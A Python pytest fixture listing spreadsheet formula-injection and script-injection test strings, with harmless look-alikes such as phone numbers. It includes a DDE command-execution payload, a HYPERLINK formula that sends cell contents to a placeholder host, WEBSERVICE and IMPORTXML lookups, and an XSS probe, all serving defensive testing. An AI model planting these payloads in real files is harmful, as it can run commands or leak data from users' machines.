"""Texts that spreadsheets, parsers and pages have been attacked with (safety rule S8), and plain look-alikes."""

from __future__ import annotations

from typing import Final

import pytest

HOSTILE: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://voorbeeld.invalid/?x="&A1,"klik")',
    "=WEBSERVICE(A1)",
    "=IMPORTXML(A1,B1)",
    "=DDE(A1)",
    "+1+1",
    "+31 6 12345678",
    "-1+1",
    "-5",
    "- streepje",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "<script>alert(1)</script>&amp;",
    "_x0041_",
    "'=1+1",
    '"a";b,c',
)


@pytest.fixture
def hostile() -> tuple[str, ...]:
    return HOSTILE
